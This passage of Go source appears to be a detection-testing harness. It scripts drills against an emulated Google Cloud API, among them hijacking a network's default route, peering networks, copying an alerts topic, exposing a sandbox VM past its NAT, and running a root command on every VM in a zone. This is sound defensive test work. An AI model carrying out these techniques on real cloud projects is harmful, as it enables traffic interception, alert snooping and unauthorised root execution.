		return fmt.Errorf("dial the emulated Compute images API: %w", err)
	}
	w.closers = append(w.closers, func() { c.Close() })
	op, err := c.Insert(ctx, &computepb.InsertImageRequest{Project: project, ForceCreate: proto.Bool(true),
		ImageResource: &computepb.Image{Name: proto.String(image), SourceDisk: proto.String(disk)}})
	if err == nil {
		err = op.Wait(ctx)
	}
	if err != nil {
		return allowed(err, "images.insert "+image+" from "+disk)
	}
	_, err = c.SetIamPolicy(ctx, &computepb.SetIamPolicyImageRequest{Project: project, Resource: image,
		GlobalSetPolicyRequestResource: &computepb.GlobalSetPolicyRequest{Policy: pol}})
	return allowed(err, "images.setIamPolicy "+image)
}

// insertNetwork is the operator creating a custom-mode network and
// waiting for it.
func (w *World) insertNetwork(ctx context.Context, name string) error {
	op, err := w.Operator.Networks.Insert(ctx, &computepb.InsertNetworkRequest{Project: w.Cfg.Cloud.GCP.Project,
		NetworkResource: &computepb.Network{Name: proto.String(name), AutoCreateSubnetworks: proto.Bool(false)}})
	if err == nil {
		err = op.Wait(ctx)
	}
	return allowed(err, "networks.insert "+name)
}

// reroute is the operator sending network's traffic for anywhere through
// another box (a static route, priority 0) and peering network with a
// new network peer, through the official Routes and Networks clients.
func (w *World) reroute(ctx context.Context, network, peer string) error {
	c, err := compute.NewRoutesRESTClient(ctx, w.computeOpts(w.principal(actorOperator))...)
	if err != nil {
		return fmt.Errorf("dial the emulated Compute routes API: %w", err)
	}
	w.closers = append(w.closers, func() { c.Close() })
	name := "via-" + peer
	op, err := c.Insert(ctx, &computepb.InsertRouteRequest{Project: w.Cfg.Cloud.GCP.Project, RouteResource: &computepb.Route{Name: proto.String(name),
		Network: proto.String("global/networks/" + network), DestRange: proto.String("0.0.0.0/0"), Priority: proto.Uint32(0),
		NextHopIp: proto.String("10.128.0.99")}})
	if err == nil {
		err = op.Wait(ctx)
	}
	if err != nil {
		return allowed(err, "routes.insert "+name)
	}
	return w.peer(ctx, network, peer)
}

// catalogueScenarios2 are the drills of the second batch of catalogue
// techniques (functions/detect/rules_catalogue2.go).
func catalogueScenarios2() []Scenario {
	return []Scenario{
		{Name: "coopguard-topic-subscribed", Kind: Notify, Actor: actorOther, Counterpart: "operator-team-subscription",
			Summary: "attaches its own subscription to coopguard's CPU alerts topic, a copy of every alert: Subscriber.CreateSubscription (allowed)",
			Act: func(ctx context.Context, w *World) error {
				c, err := w.pubsubAs(ctx, w.principal(actorOther))
				if err != nil {
					return err
				}
				p := "projects/" + w.Cfg.Cloud.GCP.Project
				sub := p + "/subscriptions/alerts-copy"
				_, err = c.SubscriptionAdminClient.CreateSubscription(ctx, &pubsubpb.Subscription{Name: sub, Topic: p + "/topics/" + w.Cfg.Coopguard.Topics.Alerts})
				return allowed(err, "CreateSubscription "+sub)
			}},
		{Name: "sandbox-vm-exposed", Kind: Attack, Actor: actorOther, Counterpart: "operator-metadata-note",
			Summary: "gives the sandbox's VM an external address, a way out past the NAT and a way in: instances.addAccessConfig (allowed)",
			Act: func(ctx context.Context, w *World) error {
				p, z, vm := w.Cfg.Cloud.GCP.Project, w.Cfg.Cloud.GCP.Zone, w.Sandbox.Name
				inst, err := w.Operator.Instances.Get(ctx, &computepb.GetInstanceRequest{Project: p, Zone: z, Instance: vm})
				if err != nil {
					return allowed(err, "instances.get "+vm)
				}
				if len(inst.GetNetworkInterfaces()) == 0 {
					return fmt.Errorf("the sandbox's VM %s has no network interface to expose", vm)
				}
				nic := inst.GetNetworkInterfaces()[0].GetName()
				op, err := w.Operator.Instances.AddAccessConfig(ctx, &computepb.AddAccessConfigInstanceRequest{Project: p, Zone: z, Instance: vm,
					NetworkInterface: nic, AccessConfigResource: &computepb.AccessConfig{Name: proto.String("External NAT"), Type: proto.String("ONE_TO_ONE_NAT")}})
				if err == nil {
					err = op.Wait(ctx)
				}
				return allowed(err, "instances.addAccessConfig "+nic+" on "+vm)
			}},
		{Name: "os-config-run-command-by-other", Kind: Notify, Actor: actorOther, Counterpart: "own-key-read",
			Summary: "creates an OS policy assignment running a command as root on every VM of the sandbox's zone, the sandbox's included: OsConfigZonalService.CreateOSPolicyAssignment (allowed)",
			Act: func(ctx context.Context, w *World) error {
				parent := "projects/" + w.Cfg.Cloud.GCP.Project + "/locations/" + w.Cfg.Cloud.GCP.Zone
				return allowed(w.createRunCommand(ctx, gcp.EmulatedToken(w.principal(actorOther)), parent), "CreateOSPolicyAssignment in "+parent)
			}},
	}
}
